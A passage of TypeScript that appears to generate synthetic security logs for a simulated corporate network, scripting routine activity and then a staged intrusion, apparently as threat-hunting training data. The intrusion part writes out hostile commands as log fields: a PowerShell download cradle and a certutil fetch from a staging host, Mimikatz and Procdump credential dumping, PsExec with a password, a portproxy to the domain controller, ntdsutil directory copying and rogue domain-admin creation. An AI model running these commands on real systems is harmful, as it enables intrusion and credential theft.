        if (rand() < 0.5) spawn(t0 + int(3600000, 7 * 3600000), explorer, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "\\\\FS01\\Finance\\Q1-forecast.xlsx"', { account: u, pe: PE.excel, integrity: 'Medium' });
        logon(H.fs, t0 + int(300000, 4000000), u, 3, { ip: h.ip, workstation: h.name });
        // Helpdesk-style troubleshooting now and then: a lone ipconfig is routine.
        if (d === 1 && h === H.ws2) {
          const c = spawn(t0 + 5400000, explorer, 'C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe"', { account: u, pe: PE.cmd, integrity: 'Medium' });
          spawn(t0 + 5410000, c, 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig', { pe: PE.ipconfig, integrity: 'Medium' });
          spawn(t0 + 5425000, c, 'C:\\Windows\\System32\\PING.EXE', 'ping intranet.corp.nordtel.example', { integrity: 'Medium' });
        }
      }
      // Windows Update / Defender signature updates (every server and workstation, once a day).
      const tu = at(d, `0${int(2, 5)}:${int(0, 59)}:${int(0, 59)}`);
      const svchost = existing(h, 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p', SYSTEM);
      const mpcmd = spawn(tu, svchost, 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1902.2-0\\MpCmdRun.exe', '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1902.2-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges', { account: SYSTEM, pe: PE.defender });
      fileCreate(tu + 9000, mpcmd, `C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}\\mpasdlta.vdm`);
      dnsQuery(tu + 500, mpcmd, 'definitionupdates.microsoft.com', '23.52.172.40');
      zdns(tu + 500, h.ip, 'definitionupdates.microsoft.com', ['23.52.172.40']);
      zconn(tu + 700, { src: h.ip, dst: '23.52.172.40', dport: 443, service: 'ssl', sni: 'definitionupdates.microsoft.com', ob: int(2000, 5000), rb: int(200000, 900000), dur: 14 });
      const tiw = spawn(tu + 60000, svc, 'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.14393.2791_none_7e1c4e3d5a0f1bb3\\TiWorker.exe', 'C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.14393.2791_none_7e1c4e3d5a0f1bb3\\TiWorker.exe -Embedding', { account: SYSTEM });
      fileCreate(tu + 65000, tiw, `C:\\Windows\\Logs\\CBS\\CBS.log`);
      system(h, tu + 1000, 7036, { param1: 'Windows Modules Installer', param2: 'running' });
      system(h, tu + 600000, 7036, { param1: 'Windows Modules Installer', param2: 'stopped' });
      // Task scheduler housekeeping and machine account Kerberos logons to the DC.
      for (let k = 0; k < 6; k++) {
        const t = at(d, `${int(0, 23)}:${int(0, 59)}:${int(0, 59)}`);
        logon(H.dc, t, { name: `${h.name}$`, sid: `${DOMAIN_SID}-${2000 + ALL_HOSTS.indexOf(h)}`, domain: DOMAIN }, 3, { ip: h.ip });
        const th = existing(h, 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', SYSTEM);
        spawn(t + 200, th, 'C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe', { account: SYSTEM });
        logon(h, t + 300, SYSTEM, 5, { proc: 'C:\\Windows\\System32\\services.exe', logonProc: 'Advapi  ' });
      }
      // GPO refresh: gpupdate-style svchost DNS and LDAP to the DC.
      for (let k = 0; k < 3; k++) {
        const t = at(d, `${int(0, 23)}:${int(0, 59)}:${int(0, 59)}`);
        zconn(t, { src: h.ip, dst: H.dc.ip, dport: 389, ob: int(400, 2000), rb: int(2000, 20000), dur: 0.4 });
        zconn(t + 50, { src: h.ip, dst: H.dc.ip, dport: 445, ob: int(2000, 9000), rb: int(20000, 90000), dur: 1.2 });
        zdns(t - 10, h.ip, `_ldap._tcp.dc._msdcs.${FQDN}`, [H.dc.ip], 'SRV');
      }
    }
    // Admin work on servers during office hours (RDP from the admin's workstation).
    const ta = at(d, `09:${int(0, 59)}:00`);
    const target = pick([H.fs, H.cdr, H.jboss]);
    logon(target, ta, USERS.admin, 10, { ip: H.ws1.ip, workstation: H.ws1.name, proc: 'C:\\Windows\\System32\\svchost.exe' });
    logon(H.dc, ta - 400, USERS.admin, 3, { ip: H.ws1.ip, workstation: H.ws1.name });
    zconn(ta, { src: H.ws1.ip, dst: target.ip, dport: 3389, dur: 1800 + int(0, 1800), ob: int(200000, 900000), rb: int(2000000, 9000000) });
    if (target.sysmon) {
      const rdpExplorer = existing(target, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', USERS.admin);
      const mmc = spawn(ta + 90000, rdpExplorer, 'C:\\Windows\\System32\\mmc.exe', '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\services.msc"', { account: USERS.admin });
      void mmc;
      spawn(ta + 200000, rdpExplorer, 'C:\\Windows\\System32\\taskmgr.exe', '"C:\\Windows\\system32\\taskmgr.exe" /4', { account: USERS.admin });
    }
    // Failed logons: typos, and a password-spray trickle against the web server's login page (in W3C).
    for (let k = 0; k < 5; k++) {
      const u = pick(WORKERS);
      const t = at(d, `${int(7, 18)}:${int(0, 59)}:${int(0, 59)}`);
      security(H.dc, t, 4625, {
        SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0', TargetUserSid: 'S-1-0-0', TargetUserName: u.name,
        TargetDomainName: DOMAIN, Status: '0xc000006d', FailureReason: '%%2313', SubStatus: '0xc000006a', LogonType: 3, LogonProcessName: 'Kerberos',
        AuthenticationPackageName: 'Kerberos', WorkstationName: '-', TransmittedServices: '-', LmPackageName: '-', KeyLength: 0, ProcessId: '0x0',
        ProcessName: '-', IpAddress: pick([H.ws1.ip, H.ws2.ip]), IpPort: int(49152, 65000),
      }, true);
    }
    // The database does its nightly export job as the backup account (a legitimate bcp to the backup share).
    if (d < DAYS) {
      const t = at(d, '23:30:00');
      const agent = existing(H.cdr, 'C:\\Program Files\\Microsoft SQL Server\\MSSQL13.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE', '"C:\\Program Files\\Microsoft SQL Server\\MSSQL13.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE" -i MSSQLSERVER', USERS.sqlsvc);
      const c = spawn(t, agent, 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c "D:\\Jobs\\nightly_backup.cmd"', { pe: PE.cmd });
      spawn(t + 2000, c, 'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\130\\Tools\\Binn\\sqlcmd.exe', 'sqlcmd -S localhost -E -Q "BACKUP DATABASE [CDR] TO DISK=N\'\\\\FS01\\Backup\\CDR\\CDR_full.bak\' WITH COMPRESSION, INIT"');
      logon(H.fs, t + 2500, USERS.sqlsvc, 3, { ip: H.cdr.ip, workstation: H.cdr.name });
      zconn(t + 2500, { src: H.cdr.ip, dst: H.fs.ip, dport: 445, dur: 900, ob: 2_400_000_000, rb: 80000 });
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The intrusion
// ---------------------------------------------------------------------------------------------
interface Milestone {
  t: number;
  host: string;
  what: string;
}
const story: Milestone[] = [];
const note = (t: number, host: Host | string, what: string): void => {
  story.push({ t, host: typeof host === 'string' ? host : host.name, what });
};

function intrusion(): void {
  const web0 = H.web;
  // Long-running processes the attack hangs off.
  const w3wp = existing(web0, 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "NordtelPortal" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm6d2c1f0e-4b8a-4d2e-9a1b-3f57c2e8d901 -h "C:\\inetpub\\temp\\apppools\\NordtelPortal\\NordtelPortal.config" -w "" -m 0 -t 20 -ta 0', SYSTEM, 4412);
  const lsassWeb = existing(web0, 'C:\\Windows\\system32\\lsass.exe', 'C:\\Windows\\system32\\lsass.exe', SYSTEM, 628);
  const java = existing(H.jboss, 'C:\\Program Files\\Java\\jre1.8.0_121\\bin\\java.exe', '"C:\\Program Files\\Java\\jre1.8.0_121\\bin\\java.exe" -server -Xms1303m -Xmx1303m -Dprogram.name=run.bat -Djboss.home.dir=C:\\jboss-6.1.0.Final -Djava.endorsed.dirs=C:\\jboss-6.1.0.Final\\lib\\endorsed -classpath C:\\jboss-6.1.0.Final\\bin\\run.jar org.jboss.Main -b 0.0.0.0', USERS.jboss, 2316);
  const servicesCdr = existing(H.cdr, 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', SYSTEM, 604);
  const wmiDc = existing(H.dc, 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', SYSTEM, 3344);

  // --- Day 0, 01:52-02:04: a scanner sweeps the public web server (404 burst, JBoss probes) ---
  note(at(0, '01:52:10'), web0, `Scan from ${SCANNER_IP}: >100 requests, mostly 404, probing JBoss/WildFly consoles, Telerik handlers and backups (IIS W3C)`);
  const probes = ['/invoker/JMXInvokerServlet', '/invoker/EJBInvokerServlet', '/jmx-console/HtmlAdaptor', '/web-console/Invoker', '/admin-console/login.seam', '/jbossmq-httpil/HTTPServerILServlet', '/manager/html', '/phpmyadmin/index.php', '/backup.zip', '/web.config.bak', '/.git/HEAD', '/aspnet_client/', '/Telerik.Web.UI.WebResource.axd', '/ScriptResource.axd', '/owa/auth/logon.aspx', '/wp-admin/', '/solr/admin/', '/struts2-showcase/', '/cgi-bin/test.cgi', '/admin/', '/login.jsp', '/console/', '/upload.aspx', '/uploads/', '/shell.aspx', '/cmd.aspx'];
  let ts = at(0, '01:52:10');
  for (let i = 0; i < 120; i++) {
    ts += int(1500, 4500);
    const stem = i < probes.length ? probes[i]! : `/${pick(['admin', 'old', 'test', 'dev', 'bak', 'api', 'app', 'portal'])}/${pick(['index', 'login', 'config', 'upload', 'debug'])}.${pick(['aspx', 'asp', 'php', 'jsp', 'bak', 'zip'])}`;
    const found = stem === '/Telerik.Web.UI.WebResource.axd' || stem === '/aspnet_client/';
    web(ts, { stem, cip: SCANNER_IP, ua: i % 3 === 0 ? UA.nikto : UA.scanner, status: found ? (stem === '/aspnet_client/' ? 403 : 200) : 404, bytes: found ? 312 : 1245, taken: int(0, 15) });
  }
  // The same scanner hits the JBoss server directly (seen by the Zeek sensor).
  for (let i = 0; i < 6; i++) zhttp(at(0, '02:05:00') + i * 3000, { src: SCANNER_IP, dst: H.jboss.ip, dport: 8080, method: i < 3 ? 'GET' : 'HEAD', host: `${H.jboss.ip}:8080`, uri: probes[i]!, ua: UA.scanner, status: i === 0 ? 200 : 404 });

  // --- Day 0, 02:31: exploitation of the Telerik upload handler on WEB-IIS01 drops a China Chopper page ---
  const tExploit = at(0, '02:31:44');
  note(tExploit, web0, `Exploit: POST /Telerik.Web.UI.WebResource.axd?type=rau from ${OPERATOR_IP}; w3wp writes the China Chopper page /aspnet_client/system_web/4_0_30319/errorEE.aspx`);
  web(tExploit, { method: 'POST', stem: '/Telerik.Web.UI.WebResource.axd', query: 'type=rau', cip: OPERATOR_IP, ua: UA.win10, status: 200, bytes: 718, csBytes: 5123 });
  web(tExploit + 2100, { method: 'POST', stem: '/Telerik.Web.UI.WebResource.axd', query: 'type=rau', cip: OPERATOR_IP, ua: UA.win10, status: 200, bytes: 722, csBytes: 1840 });
  const shellPage = 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\errorEE.aspx';
  fileCreate(tExploit + 2300, w3wp, shellPage);
  const SHELL_STEM = '/aspnet_client/system_web/4_0_30319/errorEE.aspx';
  const chopperPost = (t: number, bytes = int(200, 4000), cs = int(300, 2500)): void => web(t, { method: 'POST', stem: SHELL_STEM, cip: OPERATOR_IP, ua: UA.chopper, bytes, csBytes: cs, taken: int(30, 900) });

  // Chopper commands: cmd wrapper from w3wp (the app pool runs as LocalSystem), then the tool.
  const chopper = (t: number, cwd: string, inner: string, image: string, pe: PeInfo, childCmd?: string): Proc => {
    chopperPost(t - 400);
    const cmd = spawn(t, w3wp, 'C:\\Windows\\System32\\cmd.exe', `cmd /c cd /d "${cwd}"&${inner}&echo [S]&cd&echo [E]`, { pe: PE.cmd, cwd: 'C:\\Windows\\system32\\inetsrv\\' });
    return spawn(t + 60, cmd, image, childCmd ?? inner, { pe, cwd });
  };
  const www = 'C:\\inetpub\\wwwroot\\';
  // --- Day 0, 02:40-02:47: first commands through the web shell (discovery burst) ---
  note(at(0, '02:40:05'), web0, 'Web shell POSTs (Baiduspider user agent) start; w3wp -> cmd wrapper with "&echo [S]&cd&echo [E]" runs whoami, ipconfig /all, netstat -ano, net group "domain admins" /domain, quser, systeminfo');
  chopper(at(0, '02:40:05'), www, 'whoami', 'C:\\Windows\\System32\\whoami.exe', PE.whoami!);
  chopper(at(0, '02:40:48'), www, 'whoami /all', 'C:\\Windows\\System32\\whoami.exe', PE.whoami!);
  chopper(at(0, '02:41:30'), www, 'ipconfig /all', 'C:\\Windows\\System32\\ipconfig.exe', PE.ipconfig!);
  chopper(at(0, '02:42:12'), www, 'netstat -ano', 'C:\\Windows\\System32\\NETSTAT.EXE', PE.netstat!);
  const netg = chopper(at(0, '02:43:40'), www, 'net group "domain admins" /domain', 'C:\\Windows\\System32\\net.exe', PE.net!);
  spawn(at(0, '02:43:40') + 80, netg, 'C:\\Windows\\System32\\net1.exe', 'C:\\Windows\\system32\\net1  group "domain admins" /domain', { pe: PE.net1 });
  chopper(at(0, '02:44:31'), www, 'quser', 'C:\\Windows\\System32\\quser.exe', PE.quser!);
  chopper(at(0, '02:45:52'), www, 'systeminfo', 'C:\\Windows\\System32\\systeminfo.exe', PE.systeminfo!);
  chopper(at(0, '02:47:03'), www, 'tasklist /v', 'C:\\Windows\\System32\\tasklist.exe', PE.tasklist!);

  // --- Day 0, 02:58: tools uploaded through the shell into C:\PerfLogs\Admin ---
  const STAGE = 'C:\\PerfLogs\\Admin\\';
  note(at(0, '02:58:10'), web0, 'Tools written by w3wp into C:\\PerfLogs\\Admin: nbt.exe (NBTscan, no version info), pd.exe (renamed Procdump), mt.exe (renamed Mimikatz), ps.exe (renamed PsExec), msupdate.exe (HTRAN), dllhost32.exe (renamed cmd)');
  const tools = ['nbt.exe', 'pd.exe', 'mt.exe', 'ps.exe', 'msupdate.exe', 'dllhost32.exe'];
  tools.forEach((f, i) => {
    const t = at(0, '02:58:10') + i * 9000;
    chopperPost(t - 300, 180, int(90000, 900000));
    fileCreate(t, w3wp, STAGE + f);
  });

  // --- Day 0, 03:06: NetBIOS sweep of the server subnet with the renamed NBTscan ---
  const tScan = at(0, '03:06:12');
  note(tScan, web0, 'NBTscan-like sweep: C:\\PerfLogs\\Admin\\nbt.exe 10.20.0.0/24 (Sysmon 1) and 40 UDP/137 queries (Sysmon 3)');
  const nbt = chopper(tScan, STAGE, 'nbt.exe 10.20.0.0/24', STAGE + 'nbt.exe', PE.none!, 'nbt.exe  10.20.0.0/24');
  for (let i = 1; i <= 40; i++) {
    netConn(tScan + 300 + i * 150, nbt, { proto: 'udp', initiated: true, src: web0.ip, sport: 137, dst: `10.20.0.${i}`, dport: 137 });
    zconn(tScan + 300 + i * 150, { src: web0.ip, sport: 137, dst: `10.20.0.${i}`, dport: 137, proto: 'udp', service: 'dns', ob: 50, rb: i % 4 === 0 ? 229 : 0, state: i % 4 === 0 ? 'SF' : 'S0', dur: 0.01 });
  }

  // --- Day 0, 03:15-03:31: credential theft on WEB-IIS01 ---
  note(at(0, '03:15:02'), web0, 'Credential theft: pd.exe -accepteula -ma lsass.exe (renamed Procdump), mt.exe "privilege::debug" "sekurlsa::logonpasswords" (renamed Mimikatz, signed with a revoked certificate), reg save HKLM\\SAM / SYSTEM');
  const pd = chopper(at(0, '03:15:02'), STAGE, 'pd.exe -accepteula -ma lsass.exe C:\\PerfLogs\\Admin\\', STAGE + 'pd.exe', PE.procdump!);
  lsassAccess(at(0, '03:15:03'), pd, lsassWeb, '0x1fffff', `C:\\Windows\\SYSTEM32\\ntdll.dll+a5ea4|C:\\Windows\\System32\\KERNELBASE.dll+2bfbd|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6fd2|${STAGE}pd.exe+1d2c5`);
  fileCreate(at(0, '03:15:06'), pd, STAGE + 'lsass.exe_190304_031503.dmp');
  const mt = chopper(at(0, '03:22:40'), STAGE, 'mt.exe "privilege::debug" "sekurlsa::logonpasswords" exit > 1.txt', STAGE + 'mt.exe', PE.mimikatz!, 'mt.exe  "privilege::debug" "sekurlsa::logonpasswords" exit');
  imageLoad(at(0, '03:22:40') + 30, mt, STAGE + 'mt.exe', PE.mimikatz!, true, 'Shenzhen Yitong Technology Co., Ltd.', 'Revoked');
  lsassAccess(at(0, '03:22:41'), mt, lsassWeb, '0x1010', `C:\\Windows\\SYSTEM32\\ntdll.dll+a5ea4|C:\\Windows\\System32\\KERNELBASE.dll+2bfbd|${STAGE}mt.exe+6ad91|${STAGE}mt.exe+6b0e5`);
  fileCreate(at(0, '03:22:43'), mt, STAGE + '1.txt');
  chopper(at(0, '03:30:11'), STAGE, 'reg save HKLM\\SAM C:\\PerfLogs\\Admin\\sam.hiv /y', 'C:\\Windows\\System32\\reg.exe', PE.reg!, 'reg  save HKLM\\SAM C:\\PerfLogs\\Admin\\sam.hiv /y');
  chopper(at(0, '03:30:52'), STAGE, 'reg save HKLM\\SYSTEM C:\\PerfLogs\\Admin\\sys.hiv /y', 'C:\\Windows\\System32\\reg.exe', PE.reg!, 'reg  save HKLM\\SYSTEM C:\\PerfLogs\\Admin\\sys.hiv /y');
  // The loot goes out through the shell (download commands answered in the response body).
  chopperPost(at(0, '03:34:20'), 48_211_944, 420);

  // --- Day 0, 04:12-04:25: the JBoss server is exploited too (JMXInvokerServlet deserialisation) ---
  const tJ = at(0, '04:12:30');
  note(tJ, H.jboss, `JBoss exploited from ${OPERATOR_IP} (POST /invoker/JMXInvokerServlet, Zeek http); java.exe spawns whoami and cmd, PowerShell download cradle, JSP shell written, certutil pulls a SoftEther build`);
  zhttp(tJ - 2000, { src: OPERATOR_IP, dst: H.jboss.ip, dport: 8080, method: 'POST', host: `${H.jboss.ip}:8080`, uri: '/invoker/JMXInvokerServlet', ua: 'Java/1.8.0_181', status: 200, reqLen: 1_632, respLen: 1_211 });
  zconn(tJ - 2000, { src: OPERATOR_IP, dst: H.jboss.ip, dport: 8080, service: 'http', ob: 1_900, rb: 1_500, dur: 0.8 });
  spawn(tJ, java, 'C:\\Windows\\System32\\whoami.exe', 'whoami', { pe: PE.whoami, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  spawn(tJ + 40000, java, 'C:\\Windows\\System32\\HOSTNAME.EXE', 'hostname', { pe: PE.hostname, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  const jcmd = spawn(tJ + 95000, java, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c echo ^<%@ page import="java.io.*"%^> > C:\\jboss-6.1.0.Final\\server\\default\\deploy\\ROOT.war\\css\\main.jsp', { pe: PE.cmd, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  void jcmd;
  fileCreate(tJ + 95500, java, 'C:\\jboss-6.1.0.Final\\server\\default\\deploy\\ROOT.war\\css\\main.jsp');
  const ps = spawn(tJ + 180000, java, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${STAGING_HTTP_IP}/a.ps1')"`, { pe: PE.powershell, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  netConn(tJ + 181000, ps, { initiated: true, src: H.jboss.ip, sport: int(49152, 65000), dst: STAGING_HTTP_IP, dport: 80 });
  zhttp(tJ + 181000, { src: H.jboss.ip, dst: STAGING_HTTP_IP, method: 'GET', host: STAGING_HTTP_IP, uri: '/a.ps1', ua: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.14393.2791', status: 200, respLen: 8_940 });
  zconn(tJ + 181000, { src: H.jboss.ip, dst: STAGING_HTTP_IP, dport: 80, service: 'http', ob: 240, rb: 9_300, dur: 0.3 });
  powershell(H.jboss, tJ + 182000, "function Invoke-Mimikatz\n{\n[CmdletBinding(DefaultParameterSetName=\"DumpCreds\")]\nParam(\n  [Parameter(Position = 0)] [String[]] $ComputerName,\n  [Parameter(ParameterSetName = \"DumpCreds\", Position = 1)] [Switch] $DumpCreds\n)\n# PE bytes follow\n}\nInvoke-Mimikatz -DumpCreds", '');
  const cu = spawn(tJ + 600000, java, 'C:\\Windows\\System32\\certutil.exe', `certutil.exe -urlcache -split -f http://${STAGING_HTTP_IP}/vb.dat C:\\ProgramData\\Microsoft\\Network\\netmgr.exe`, { pe: PE.certutil, cwd: 'C:\\jboss-6.1.0.Final\\bin\\' });
  fileCreate(tJ + 602000, cu, 'C:\\ProgramData\\Microsoft\\Network\\netmgr.exe');
  zhttp(tJ + 601000, { src: H.jboss.ip, dst: STAGING_HTTP_IP, method: 'GET', host: STAGING_HTTP_IP, uri: '/vb.dat', ua: 'Microsoft-CryptoAPI/10.0', status: 200, respLen: 3_412_880 });

  // --- Day 1, 01:10-01:35: lateral movement with the renamed PsExec to CDR-DB01 ---
  const tP = at(1, '01:10:20');
  note(tP, web0, `Stolen credentials used from the web shell: 4648 (w3wp, CORP\\${USERS.sqlsvc.name}); ps.exe (renamed PsExec) \\\\10.20.2.21 -accepteula -s cmd`);
  chopperPost(tP - 500);
  const pscmd = spawn(tP, w3wp, 'C:\\Windows\\System32\\cmd.exe', `cmd /c cd /d "${STAGE}"&ps.exe \\\\10.20.2.21 -accepteula -u ${DOMAIN}\\${USERS.sqlsvc.name} -p Spr1ng2019! -s cmd /c "whoami&ipconfig /all&net user /domain&netstat -ano&tasklist" &echo [S]&cd&echo [E]`, { pe: PE.cmd, cwd: 'C:\\Windows\\system32\\inetsrv\\' });
  security(web0, tP + 100, 4648, {
    SubjectUserSid: 'S-1-5-18', SubjectUserName: `${web0.name}$`, SubjectDomainName: DOMAIN, SubjectLogonId: '0x3e7', LogonGuid: '{00000000-0000-0000-0000-000000000000}',
    TargetUserName: USERS.sqlsvc.name, TargetDomainName: DOMAIN, TargetLogonGuid: '{00000000-0000-0000-0000-000000000000}', TargetServerName: '10.20.2.21', TargetInfo: '10.20.2.21',
    ProcessId: `0x${w3wp.pid.toString(16)}`, ProcessName: w3wp.image, IpAddress: '-', IpPort: '-',
  });
  const psx = spawn(tP + 50, pscmd, STAGE + 'ps.exe', `ps.exe  \\\\10.20.2.21 -accepteula -u ${DOMAIN}\\${USERS.sqlsvc.name} -p Spr1ng2019! -s cmd /c "whoami&ipconfig /all&net user /domain&netstat -ano&tasklist"`, { pe: PE.psexec, cwd: STAGE });
  netConn(tP + 400, psx, { initiated: true, src: web0.ip, sport: int(49152, 65000), dst: H.cdr.ip, dport: 445 });
  zconn(tP + 400, { src: web0.ip, dst: H.cdr.ip, dport: 445, service: 'smb', dur: 62, ob: 412_000, rb: 30_000 });
  logon(H.cdr, tP + 600, USERS.sqlsvc, 3, { ip: web0.ip, workstation: web0.name, pkg: 'NTLM' });
  security(H.cdr, tP + 900, 5145, {
    SubjectUserSid: USERS.sqlsvc.sid, SubjectUserName: USERS.sqlsvc.name, SubjectDomainName: DOMAIN, SubjectLogonId: '0x4c1a2f', ObjectType: 'File', IpAddress: web0.ip, IpPort: int(49152, 65000),
    ShareName: '\\\\*\\ADMIN$', ShareLocalPath: '\\??\\C:\\Windows', RelativeTargetName: 'PSEXESVC.exe', AccessMask: '0x2', AccessList: '%%4417\n\t\t\t\t', AccessReason: '-',
  });
  service7045(H.cdr, tP + 1300, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
  const psexesvc = spawn(tP + 1500, servicesCdr, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', { account: SYSTEM, pe: { ...PE.psexec!, ofn: 'psexesvc.exe', desc: 'PsExec Service' } });
  pipe(tP + 1600, psexesvc, 17, '\\PSEXESVC');
  for (const s of ['stdin', 'stdout', 'stderr']) pipe(tP + 1700, psexesvc, 17, `\\PSEXESVC-${web0.name}-${psx.pid}-${s}`);
  note(tP + 2000, H.cdr, 'PSEXESVC installed (7045, 5145 ADMIN$ write, PsExec pipes); SYSTEM cmd runs whoami, ipconfig /all, net user /domain, netstat -ano, tasklist within a minute');
  const ccmd = spawn(tP + 2000, psexesvc, 'C:\\Windows\\System32\\cmd.exe', 'cmd /c "whoami&ipconfig /all&net user /domain&netstat -ano&tasklist"', { account: SYSTEM, pe: PE.cmd });
  spawn(tP + 2100, ccmd, 'C:\\Windows\\System32\\whoami.exe', 'whoami', { pe: PE.whoami });
  spawn(tP + 2400, ccmd, 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig  /all', { pe: PE.ipconfig });
  spawn(tP + 3100, ccmd, 'C:\\Windows\\System32\\net.exe', 'net  user /domain', { pe: PE.net });
  spawn(tP + 4800, ccmd, 'C:\\Windows\\System32\\NETSTAT.EXE', 'netstat  -ano', { pe: PE.netstat });
  spawn(tP + 5600, ccmd, 'C:\\Windows\\System32\\tasklist.exe', 'tasklist', { pe: PE.tasklist });
  // Pass the hash from WEB-IIS01 with the dumped hash of the helpdesk admin.
  const tPth = at(1, '01:25:40');
  note(tPth, web0, 'Pass the hash: mt.exe "sekurlsa::pth /user:adm.eriksen ..." -> 4624 logon type 9 (seclogo)');
  chopper(tPth, STAGE, `mt.exe "sekurlsa::pth /user:${USERS.admin.name} /domain:${DOMAIN} /ntlm:${hex(32).toLowerCase()} /run:dllhost32.exe" exit`, STAGE + 'mt.exe', PE.mimikatz!);
  security(web0, tPth + 900, 4624, {
    SubjectUserSid: 'S-1-5-18', SubjectUserName: `${web0.name}$`, SubjectDomainName: DOMAIN, SubjectLogonId: '0x3e7', TargetUserSid: 'S-1-5-18', TargetUserName: 'SYSTEM',
    TargetDomainName: 'NT AUTHORITY', TargetLogonId: '0x2f8e1c4', LogonType: 9, LogonProcessName: 'seclogo', AuthenticationPackageName: 'Negotiate', WorkstationName: '-',
    LogonGuid: '{00000000-0000-0000-0000-000000000000}', TransmittedServices: '-', LmPackageName: '-', KeyLength: 0, ProcessId: '0x3ec', ProcessName: 'C:\\Windows\\System32\\svchost.exe',
    IpAddress: '::1', IpPort: 0, ImpersonationLevel: '%%1833', RestrictedAdminMode: '-', TargetOutboundUserName: USERS.admin.name, TargetOutboundDomainName: DOMAIN,
    VirtualAccount: '%%1843', TargetLinkedLogonId: '0x0', ElevatedToken: '%%1842',
  });
  // The renamed cmd.exe started by Mimikatz under the new credentials.
  const rc = spawn(tPth + 1000, mt, STAGE + 'dllhost32.exe', 'dllhost32.exe', { pe: PE.cmd, cwd: STAGE });
  note(tPth + 1000, web0, 'Renamed cmd.exe (C:\\PerfLogs\\Admin\\dllhost32.exe, OriginalFileName Cmd.Exe) runs netsh portproxy and the DC commands');
  spawn(tPth + 60000, rc, 'C:\\Windows\\System32\\netsh.exe', `netsh interface portproxy add v4tov4 listenport=8443 listenaddress=${web0.ip} connectport=3389 connectaddress=${H.dc.ip}`, { pe: PE.netsh, cwd: STAGE });

  // --- Day 1, 01:48-02:20: WMI to DC01: directory copy, new domain admin, DCSync ---
  const tW = at(1, '01:48:15');
  note(tW, web0, `WMI to DC01: wmic /node:${H.dc.ip} process call create (ntdsutil IFM, account creation)`);
  const wm = spawn(tW, rc, 'C:\\Windows\\System32\\wbem\\WMIC.exe', `wmic  /node:${H.dc.ip} /user:${DOMAIN}\\${USERS.admin.name} process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\PerfLogs\\ntds\\" q q"`, { pe: PE.wmic, cwd: STAGE });
  netConn(tW + 300, wm, { initiated: true, src: web0.ip, sport: int(49152, 65000), dst: H.dc.ip, dport: 135 });
  zconn(tW + 300, { src: web0.ip, dst: H.dc.ip, dport: 135, service: 'dce_rpc', dur: 2, ob: 4_000, rb: 3_000 });
  logon(H.dc, tW + 500, USERS.admin, 3, { ip: web0.ip, workstation: web0.name, pkg: 'NTLM' });
  note(tW + 1200, H.dc, 'DC01 (Security 4688): WmiPrvSE -> cmd -> ntdsutil "ac i ntds" ifm "create full C:\\PerfLogs\\ntds"; net user hdadmin /add /domain; net group "Domain Admins" hdadmin /add; comsvcs MiniDump of lsass');
  const dcmd = spawn(tW + 1200, wmiDc, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ntdsutil "ac i ntds" ifm "create full C:\\PerfLogs\\ntds" q q', { account: USERS.admin });
  spawn(tW + 1400, dcmd, 'C:\\Windows\\System32\\ntdsutil.exe', 'ntdsutil  "ac i ntds" ifm "create full C:\\PerfLogs\\ntds" q q', { account: USERS.admin });
  const tA = at(1, '02:05:33');
  const dcmd2 = spawn(tA, wmiDc, 'C:\\Windows\\System32\\cmd.exe', `cmd.exe /c net user ${USERS.hdadmin.name} H3lpd3sk!2019 /add /domain & net group "Domain Admins" ${USERS.hdadmin.name} /add /domain`, { account: USERS.admin });
  spawn(tA + 200, dcmd2, 'C:\\Windows\\System32\\net.exe', `net  user ${USERS.hdadmin.name} H3lpd3sk!2019 /add /domain`, { account: USERS.admin });
  security(H.dc, tA + 600, 4720, {
